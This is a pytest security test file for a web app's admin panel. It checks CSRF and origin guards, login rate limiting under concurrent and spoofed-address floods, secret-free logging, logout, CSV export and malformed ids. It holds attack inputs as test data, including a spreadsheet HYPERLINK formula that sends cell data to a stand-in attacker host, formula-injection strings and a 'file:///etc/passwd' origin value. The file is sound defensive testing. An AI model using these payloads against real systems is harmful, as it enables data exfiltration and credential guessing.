"""The admin panel under attack: cross-site requests, raced and flooded logins, secrets in the
log, the operator's way in past a lockout, logout, spreadsheet formulas in exports and
malformed ids. A real backend in-process (SQLite and PostgreSQL) and real Redis."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import re
from collections import Counter

import httpx
import pytest
from sqlalchemy import select

from comfygram.backend.admin.auth import MAX_FAILURES, SESSION_COOKIE, USERNAME_MAX_FAILURES
from comfygram.backend.admin.guard import AdminGuard, same_origin
from comfygram.backend.app import create_app
from comfygram.backend.models import Job, LedgerEntry, Payment, User
from comfygram.backend.models import Preset as PresetRow
from comfygram.settings import Settings
from tests.admin_helpers import (
    ADMIN_PASSWORD,
    ADMIN_USERNAME,
    PANEL_URL,
    csrf,
    login,
    panel_client,
    with_admin,
)
from tests.bot_helpers import serve
from tests.conftest import REDIS_URL
from tests.helpers import API_TOKEN, backend_client, create_job, register

FOREIGN = "http://evil.test"
# Addresses from the documentation ranges (RFC 5737): not loopback, so not trusted.
ADDRESS_A = "203.0.113.10"
ADDRESS_B = "203.0.113.11"


@pytest.fixture
async def app(settings, redis, seeded_database):
    application = create_app(with_admin(settings))
    async with application.router.lifespan_context(application):
        yield application


@pytest.fixture
async def api(app):
    async with backend_client(app) as client:
        yield client


@pytest.fixture
async def admin(app):
    async with panel_client(app) as client:
        response = await login(client)
        assert response.status_code == 302, response.text
        yield client


async def post(
    client: httpx.AsyncClient,
    path: str,
    data: dict,
    *,
    origin: str | None = PANEL_URL,
    referer: str | None = None,
    **extra: object,
) -> httpx.Response:
    """A POST with this Origin and Referer (None: the header is left out)."""
    request = client.build_request("POST", path, data=data, **extra)
    del request.headers["origin"]
    if origin is not None:
        request.headers["Origin"] = origin
    if referer is not None:
        request.headers["Referer"] = referer
    return await client.send(request)


async def preset_row(app, slug: str) -> tuple[int, bool]:
    async with app.state.sessions() as session:
        row = await session.get(PresetRow, slug)
        return row.price, row.enabled


async def user_row(app, telegram_id: int) -> User:
    async with app.state.sessions() as session:
        return await session.scalar(select(User).where(User.telegram_id == telegram_id))


async def failed_job(api) -> str:
    await register(api, 1001)
    job = (await create_job(api, 1001, "bw")).json()
    for status in ("processing", "failed"):
        body = {"status": status, **({"error": "boom"} if status == "failed" else {})}
        response = await api.post(f"/api/jobs/{job['id']}/status", json=body)
        assert response.status_code == 200, response.text
    return job["id"]


async def state(app) -> tuple:
    """Everything an admin action can change: presets, users, jobs and the ledger."""
    async with app.state.sessions() as session:
        presets = [
            (p.slug, p.price, p.enabled, p.operator_price, p.operator_enabled)
            for p in await session.scalars(select(PresetRow).order_by(PresetRow.slug))
        ]
        users = [(u.id, u.balance, u.banned) for u in await session.scalars(select(User))]
        jobs = [(j.id, j.status) for j in await session.scalars(select(Job))]
        ledger = [e.id for e in await session.scalars(select(LedgerEntry))]
    return presets, users, jobs, ledger


def action_requests(pk: int, job_id: str, token: str) -> list[tuple[str, dict]]:
    """Every state-changing request of the panel, each with a valid token and form."""
    return [
        ("/admin/preset/edit/kontext", {"price": "0", "enabled": "y", "save": "Save"}),
        (f"/admin/user/ban/{pk}", {"banned": "1"}),
        (f"/admin/user/credit/{pk}", {"amount": "50", "reason": "x", "request_key": "k-1"}),
        (f"/admin/job/refund/{job_id}", {}),
        (f"/admin/job/retry/{job_id}", {}),
        ("/admin/preset/follow-file/bw", {}),
        ("/admin/logout", {}),
    ]


# -- 1. CSRF and the origin check -----------------------------------------------------------


async def test_a_cross_origin_preset_edit_changes_nothing(admin, app):
    # The reported attack: another site's page posts the edit form; kontext ships disabled.
    before = await preset_row(app, "kontext")
    assert before[1] is False
    token = await csrf(admin, "/admin/preset/edit/kontext")
    form = {"price": "0", "enabled": "y", "save": "Save", "csrf": token}
    for origin, referer in ((FOREIGN, None), ("null", None), (None, FOREIGN)):
        refused = await post(
            admin, "/admin/preset/edit/kontext", form, origin=origin, referer=referer
        )
        assert refused.status_code == 403, (origin, referer, refused.text)
    # Same origin but no token (or a forged one), as an old page or a script would send it.
    for data in ({k: v for k, v in form.items() if k != "csrf"}, {**form, "csrf": "forged"}):
        assert (await admin.post("/admin/preset/edit/kontext", data=data)).status_code == 403
        assert (
            await admin.post("/admin/preset/edit/kontext", files={"x": ("", b"")}, data=data)
        ).status_code == 403
    assert await preset_row(app, "kontext") == before

    # The page's own form (multipart, as the browser sends it) with its token works.
    done = await admin.post("/admin/preset/edit/kontext", data=form, files={"unused": ("", b"")})
    assert done.status_code == 302, done.text
    assert await preset_row(app, "kontext") == (0, True)


async def test_every_action_refuses_a_foreign_origin_and_a_missing_token(admin, api, app):
    job_id = await failed_job(api)
    pk = (await user_row(app, 1001)).id
    token = await csrf(admin)
    before = await state(app)
    for path, form in action_requests(pk, job_id, token):
        foreign = await admin.post(path, data={**form, "csrf": token}, headers={"Origin": FOREIGN})
        assert foreign.status_code == 403, (path, foreign.text)
        by_referer = await post(
            admin, path, {**form, "csrf": token}, origin=None, referer=f"{FOREIGN}/admin/"
        )
        assert by_referer.status_code == 403, path
        no_token = await admin.post(path, data=form)
        assert no_token.status_code == 403, path
        assert "reload the page" in no_token.text
    assert await state(app) == before
    # Still logged in: the refused logout did not log out.
    assert (await admin.get("/admin/dashboard")).status_code == 200

    # The same requests with the token and the panel's origin (or a same-origin Referer) work.
    for path, form in action_requests(pk, job_id, token)[:-1]:
        done = await post(
            admin, path, {**form, "csrf": token}, origin=None, referer=f"{PANEL_URL}/admin/"
        )
        assert done.status_code in (302, 303), (path, done.text)
    after = await state(app)
    assert after != before
    assert (await user_row(app, 1001)).banned is True


def panel_routes(app) -> list[tuple[str, str]]:
    """(method, path) of every non-GET route the panel has, path parameters filled in."""
    mount = next(r for r in app.routes if getattr(r, "name", None) == "admin")
    found = []
    for route in mount.app.router.routes:
        for method in sorted((getattr(route, "methods", None) or set()) - {"GET", "HEAD"}):
            path = re.sub(
                r"\{(\w+)(:\w+)?\}", lambda m: "bw" if m[1] != "identity" else "preset", route.path
            )
            found.append((method, "/admin" + path))
    return found


async def test_every_route_that_is_not_a_get_is_guarded(admin, app):
    routes = panel_routes(app)
    # sqladmin's own (edit, delete, import) and the panel's (actions, logout).
    assert {"/admin/preset/edit/bw", "/admin/preset/delete", "/admin/logout"} <= {
        path for _, path in routes
    }
    assert len(routes) >= 10
    before = await state(app)
    for method, path in routes:
        foreign = await admin.request(method, path, headers={"Origin": FOREIGN})
        assert foreign.status_code == 403, (method, path)
        if path != "/admin/login":
            no_token = await admin.request(method, path, data={"price": "0"})
            assert no_token.status_code == 403, (method, path, no_token.status_code)
    assert await state(app) == before
    assert (await admin.get("/admin/dashboard")).status_code == 200


async def test_a_cross_origin_login_is_refused(app):
    async with panel_client(app) as client:
        refused = await client.post(
            "/admin/login",
            data={"username": ADMIN_USERNAME, "password": ADMIN_PASSWORD},
            headers={"Origin": FOREIGN},
        )
        assert refused.status_code == 403
        assert SESSION_COOKIE not in client.cookies
        assert (await login(client)).status_code == 302


async def test_delete_and_other_methods_are_guarded_too(admin, app):
    before = await state(app)
    for method in ("DELETE", "PUT", "PATCH"):
        response = await admin.request(
            method, "/admin/preset/delete?pks=bw", headers={"Origin": FOREIGN}
        )
        assert response.status_code == 403, method
        response = await admin.request(method, "/admin/preset/delete?pks=bw")
        assert response.status_code == 403, method
    assert await state(app) == before


async def test_an_oversized_admin_form_is_refused_unread(admin, app):
    token = await csrf(admin)
    body = {"csrf": token, "price": "0", "padding": "x" * (2 * 1024 * 1024)}
    response = await admin.post("/admin/preset/edit/bw", data=body)
    assert response.status_code == 413
    assert await preset_row(app, "bw") == (1, True)


# -- 2 and 3. Concurrent and flooded logins -------------------------------------------------


async def test_concurrent_wrong_logins_evaluate_at_most_the_limit(app):
    async with panel_client(app, ADDRESS_A, raise_app_exceptions=False) as client:
        responses = await asyncio.gather(
            *(login(client, password=f"guess-number-{n}") for n in range(100))
        )
    statuses = Counter(r.status_code for r in responses)
    assert set(statuses) <= {400, 429, 503}, statuses
    assert 1 <= statuses[400] <= MAX_FAILURES, statuses
    assert statuses[429] >= 100 - MAX_FAILURES - statuses[503]


async def test_a_login_flood_leaves_the_api_and_redis_working(app, api):
    clients = [
        panel_client(app, f"198.51.100.{n}", raise_app_exceptions=False) for n in range(1, 101)
    ]
    try:
        logins = [login(clients[n % 100], password="flood-guess-12345") for n in range(500)]
        api_calls = [api.get("/api/workers") for _ in range(20)]
        responses = await asyncio.gather(*logins, *api_calls)
    finally:
        for client in clients:
            await client.aclose()
    statuses = Counter(r.status_code for r in responses[:500])
    assert set(statuses) <= {400, 429, 503}, statuses
    assert statuses[400] >= 1
    assert all(r.status_code == 200 for r in responses[500:])
    # And afterwards: the API, and the operator from a trusted address (the flood used the
    # operator's username, which is now locked for untrusted addresses).
    assert (await api.get("/api/workers")).status_code == 200
    assert (await app.state.redis.ping()) is True
    async with panel_client(app) as operator:
        assert (await login(operator)).status_code == 302


async def test_a_login_flood_over_real_http_gets_no_server_error(tmp_path, redis_prefix, redis):
    # uvicorn trusts X-Forwarded-For from loopback (as `comfygram backend` does behind a local
    # proxy), so each request can come from its own address, as a botnet's would.
    # On SQLite only: the flood is about Redis and the HTTP server, not the database.
    settings = Settings(
        _env_file=None,
        api_token=API_TOKEN,
        database_url=f"sqlite+aiosqlite:///{tmp_path}/comfygram.db",
        redis_url=REDIS_URL,
        redis_prefix=redis_prefix,
        media_dir=tmp_path / "media",
    )
    async with serve(lambda _url: create_app(with_admin(settings))) as url:
        # A new connection per request: a kept-alive one may be closed by uvicorn as it is reused.
        limits = httpx.Limits(max_connections=200, max_keepalive_connections=0)
        async with httpx.AsyncClient(base_url=url, limits=limits, timeout=60) as client:

            async def guess(n: int) -> httpx.Response:
                headers = {"X-Forwarded-For": f"198.18.{n // 250}.{n % 250 + 1}", "Origin": url}
                form = {"username": ADMIN_USERNAME, "password": f"guess-{n}-guess"}
                return await client.post("/admin/login", data=form, headers=headers)

            async def api_call() -> httpx.Response:
                token = {"Authorization": f"Bearer {API_TOKEN}"}
                return await client.get("/api/workers", headers=token)

            responses = await asyncio.gather(
                *(guess(n) for n in range(400)), *(api_call() for _ in range(20))
            )
            statuses = Counter(r.status_code for r in responses[:400])
            assert set(statuses) <= {400, 429, 503}, statuses
            assert 1 <= statuses[400] <= USERNAME_MAX_FAILURES, statuses
            assert all(r.status_code == 200 for r in responses[400:])
            assert (await api_call()).status_code == 200
            # The operator, from loopback (trusted), still gets in.
            right = {"username": ADMIN_USERNAME, "password": ADMIN_PASSWORD}
            done = await client.post("/admin/login", data=right, headers={"Origin": url})
            assert done.status_code == 302, done.text


# -- 4. The password in the username field --------------------------------------------------


@pytest.mark.parametrize(
    "typed",
    [
        ADMIN_PASSWORD,
        "back\\slash-secret-77",
        "a-very-long-secret-" + "z" * 70 + "-tail",
    ],
)
async def test_a_password_typed_as_the_username_never_reaches_the_log(app, caplog, typed):
    caplog.set_level(logging.DEBUG)
    async with panel_client(app, ADDRESS_A) as client:
        for _ in range(MAX_FAILURES + 1):  # failed, then refused by the limit
            await login(client, username=typed, password="whatever-else-1")
    texts = [record.getMessage() for record in caplog.records]
    texts += [repr(record.args) for record in caplog.records]
    assert any("admin login" in text for text in texts)  # the attempts are logged
    for needle in (typed, repr(typed)[1:-1], typed[:64], typed[:16], typed[-16:]):
        assert not any(needle in text for text in texts), needle


# -- 5. The operator's way in past a lockout ------------------------------------------------


async def test_a_locked_address_does_not_lock_out_the_operator(app, redis, settings):
    async with panel_client(app, ADDRESS_A) as attacker:
        for _ in range(MAX_FAILURES):
            assert (await login(attacker, password="guess-guess-guess")).status_code == 400
        locked = await login(attacker)
        assert locked.status_code == 429
        assert "Too many failed logins" in locked.text
    async with panel_client(app) as trusted:  # loopback: in ADMIN_TRUSTED_IPS by default
        assert (await login(trusted)).status_code == 302
    async with panel_client(app, ADDRESS_B) as elsewhere:
        assert (await login(elsewhere)).status_code == 302
    # A stays refused until its window ends (made to end now).
    async with panel_client(app, ADDRESS_A) as attacker:
        assert (await login(attacker)).status_code == 429
        keys = [k async for k in redis.scan_iter(f"{settings.redis_prefix}:admin:login*:ip:*")]
        keys = [k for k in keys if k.endswith(f":{ADDRESS_A}")]
        assert len(keys) == 1
        assert 0 < await redis.ttl(keys[0]) <= 15 * 60
        await redis.delete(keys[0])
        assert (await login(attacker)).status_code == 302


async def test_a_username_locked_from_many_addresses_opens_from_a_trusted_one(app, settings):
    addresses = [f"198.51.100.{n}" for n in range(1, 40)]
    failures = 0
    for address in addresses:
        async with panel_client(app, address) as client:
            for _ in range(MAX_FAILURES):
                response = await login(client, password="spray-spray-spray")
                failures += response.status_code == 400
        if failures >= USERNAME_MAX_FAILURES:
            break
    assert failures == USERNAME_MAX_FAILURES
    async with panel_client(app, "192.0.2.55") as fresh:
        assert (await login(fresh)).status_code == 429
    async with panel_client(app) as trusted:
        assert (await login(trusted)).status_code == 302
    async with panel_client(app, "::ffff:127.0.0.1") as dual_stack:  # loopback too
        assert (await login(dual_stack)).status_code == 302
    # Another trusted range from ADMIN_TRUSTED_IPS.
    other = create_app(with_admin(settings, admin_trusted_ips=["192.0.2.0/24"]))
    async with other.router.lifespan_context(other), panel_client(other, "192.0.2.55") as ops:
        assert (await login(ops)).status_code == 302
        async with panel_client(other) as loopback:  # no longer trusted, and locked
            assert (await login(loopback)).status_code == 429


async def test_an_ipv6_guesser_is_limited_per_64_block(app):
    async with panel_client(app, "2001:db8:1:2::1") as first:
        for _ in range(MAX_FAILURES):
            assert (await login(first, password="guess-guess-guess")).status_code == 400
    async with panel_client(app, "2001:db8:1:2:ffff::9") as same_block:
        assert (await login(same_block, password="guess-guess-guess")).status_code == 429
    async with panel_client(app, "2001:db8:1:3::1") as next_block:
        assert (await login(next_block)).status_code == 302


async def test_a_trusted_address_is_still_limited_itself(app):
    async with panel_client(app) as trusted:
        for _ in range(MAX_FAILURES):
            assert (await login(trusted, password="guess-guess-guess")).status_code == 400
        assert (await login(trusted)).status_code == 429


# -- 6. Logout ------------------------------------------------------------------------------


async def test_logout_is_a_post_and_ends_the_session_everywhere(app):
    async with panel_client(app) as browser:
        assert (await login(browser)).status_code == 302
        cookie = browser.cookies[SESSION_COOKIE]
        # A GET (a link, an <img> on another site) does not log out.
        page = await browser.get("/admin/logout")
        assert page.status_code == 200 and 'method="post"' in page.text.lower()
        assert (await browser.get("/admin/dashboard")).status_code == 200
        token = await csrf(browser)
        dashboard = await browser.get("/admin/dashboard")
        assert 'action="http://backend.test/admin/logout"' in dashboard.text
        out = await browser.post("/admin/logout", data={"csrf": token})
        assert out.status_code == 302 and out.headers["location"].endswith("/admin/login")
        again = await browser.get("/admin/dashboard")
        assert again.status_code == 302 and again.headers["location"].endswith("/admin/login")
    # The old cookie, replayed, opens nothing.
    async with panel_client(app) as replay:
        replay.cookies.set(SESSION_COOKIE, cookie, path="/admin")
        assert (await replay.get("/admin/dashboard")).status_code == 302
        assert (await replay.get("/admin/user/list")).status_code == 302
        refused = await replay.post("/admin/user/ban/1", data={"banned": "1", "csrf": token})
        assert refused.status_code in (302, 403)


async def test_logging_in_again_keeps_another_session(app):
    async with panel_client(app) as first, panel_client(app) as second:
        await login(first)
        await login(second)
        token = await csrf(second)
        await second.post("/admin/logout", data={"csrf": token})
        assert (await first.get("/admin/dashboard")).status_code == 200
        assert (await second.get("/admin/dashboard")).status_code == 302


# -- 7. CSV export --------------------------------------------------------------------------


FORMULAS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
]


async def test_csv_export_neutralises_formulas(admin, app):
    async with app.state.sessions() as session:
        for n, name in enumerate([*FORMULAS, "Plain Ann"]):
            session.add(User(telegram_id=9000 + n, first_name=name, username=f"u{n}", balance=n))
        await session.commit()
    response = await admin.get("/admin/user/export/csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    names = {int(row["telegram_id"]): row["first_name"] for row in rows}
    for n, formula in enumerate(FORMULAS):
        assert names[9000 + n] == "'" + formula
    assert names[9000 + len(FORMULAS)] == "Plain Ann"
    assert sorted(int(row["balance"]) for row in rows) == list(range(len(FORMULAS) + 1))
    # JSON keeps the values as they are.
    exported = (await admin.get("/admin/user/export/json")).json()
    assert {u["first_name"] for u in exported} >= set(FORMULAS)


async def test_csv_export_keeps_negative_numbers(admin, api, app):
    await register(api, 1001)
    job = (await create_job(api, 1001, "bw")).json()
    assert job["price"] == 1
    response = await admin.get("/admin/ledger-entry/export/csv")
    amounts = sorted(int(row["amount"]) for row in csv.DictReader(io.StringIO(response.text)))
    assert amounts == [-1, 3]


# -- 8. Malformed ids -----------------------------------------------------------------------


BAD_IDS = ["abc", "1.5", "-1", "99999999999999999999", "9223372036854775808", "a%00b", "%20"]
VIEWS = ["user", "job", "payment", "preset", "ledger-entry"]


@pytest.mark.parametrize("identity", VIEWS)
async def test_a_malformed_id_is_not_found_on_every_view(admin, identity):
    for pk in BAD_IDS:
        details = await admin.get(f"/admin/{identity}/details/{pk}")
        assert details.status_code == 404, (identity, pk, details.status_code)
        edit = await admin.get(f"/admin/{identity}/edit/{pk}")
        # Only presets can be edited; the others refuse the edit page whatever the id.
        assert edit.status_code == (404 if identity == "preset" else 403), (identity, pk)


async def test_a_malformed_id_in_an_action_is_not_found(admin):
    token = await csrf(admin)
    for pk in BAD_IDS:
        for path in (f"/admin/user/credit/{pk}",):
            assert (await admin.get(path)).status_code == 404, path
        for path, form in action_requests(pk, pk, token)[1:-1]:  # type: ignore[arg-type]
            if "follow-file" in path:
                path = f"/admin/preset/follow-file/{pk}"
            response = await admin.post(path, data={**form, "csrf": token})
            assert response.status_code == 404, (path, response.status_code)


async def test_valid_ids_still_open(admin, api, app):
    await register(api, 1001)
    async with app.state.sessions() as session:
        user = await session.scalar(select(User))
        entry = await session.scalar(select(LedgerEntry))
    await api.post("/api/payments/create", json={"telegram_id": 1001, "package": "small"})
    async with app.state.sessions() as session:
        payment = await session.scalar(select(Payment))
    for page in (
        f"/admin/user/details/{user.id}",
        f"/admin/ledger-entry/details/{entry.id}",
        f"/admin/payment/details/{payment.id}",
        "/admin/preset/edit/bw",
    ):
        assert (await admin.get(page)).status_code == 200, page


# -- the origin check's rules and Redis going away ------------------------------------------


@pytest.mark.parametrize(
    ("source", "host", "same"),
    [
        ("http://backend.test", "backend.test", True),
        ("https://admin.example.com", "admin.example.com", True),  # TLS ends at the proxy
        ("https://admin.example.com/admin/user/list?x=1", "ADMIN.example.com", True),
        ("http://127.0.0.1:8000", "127.0.0.1:8000", True),
        ("http://[::1]:8000", "[::1]:8000", True),
        ("http://backend.test:8080", "backend.test", False),
        ("http://evil.test", "backend.test", False),
        ("http://backend.test.evil.test", "backend.test", False),
        ("null", "backend.test", False),
        ("file:///etc/passwd", "backend.test", False),
        ("http://[::1", "backend.test", False),
        ("", "backend.test", False),
    ],
)
def test_same_origin(source, host, same):
    assert same_origin(source, host) is same


async def test_a_foreign_form_is_read_whole_before_it_is_refused():
    """Chromium once showed its own empty "HTTP ERROR 403" page for the refusal (CI, stop 21):
    answering a form before it has arrived races the browser's upload. The guard reads it."""
    events: list[str] = []
    parts = [b"price=0&", b"enabled=y"]

    async def receive() -> dict:
        events.append("read")
        body = parts.pop(0)
        return {"type": "http.request", "body": body, "more_body": bool(parts)}

    async def send(message: dict) -> None:
        events.append(message["type"])

    async def panel(scope, receive, send) -> None:
        raise AssertionError("a foreign form reached the panel")

    scope = {
        "type": "http",
        "method": "POST",
        "path": "/admin/preset/edit/bw",
        "root_path": "/admin",
        "headers": [(b"host", b"backend.test"), (b"origin", FOREIGN.encode())],
    }
    await AdminGuard(panel, panel=None)(scope, receive, send)  # type: ignore[arg-type]
    assert events == ["read", "read", "http.response.start", "http.response.body"]


async def test_without_redis_the_panel_answers_503_not_500(app, settings):
    async with panel_client(app) as browser:
        await login(browser)
        cookie = browser.cookies[SESSION_COOKIE]
    # The same panel where nothing listens on Redis's port: every Redis call fails at once.
    dead = with_admin(settings, redis_url="redis://127.0.0.1:1/0")
    application = create_app(dead)
    async with (
        application.router.lifespan_context(application),
        panel_client(application, raise_app_exceptions=False) as client,
    ):
        response = await login(client)
        assert response.status_code == 503
        assert "Redis is unreachable" in response.text
        assert SESSION_COOKIE not in client.cookies
        client.cookies.set(SESSION_COOKIE, cookie, path="/admin")
        page = await client.get("/admin/dashboard")
        assert page.status_code == 503 and "needs Redis" in page.text
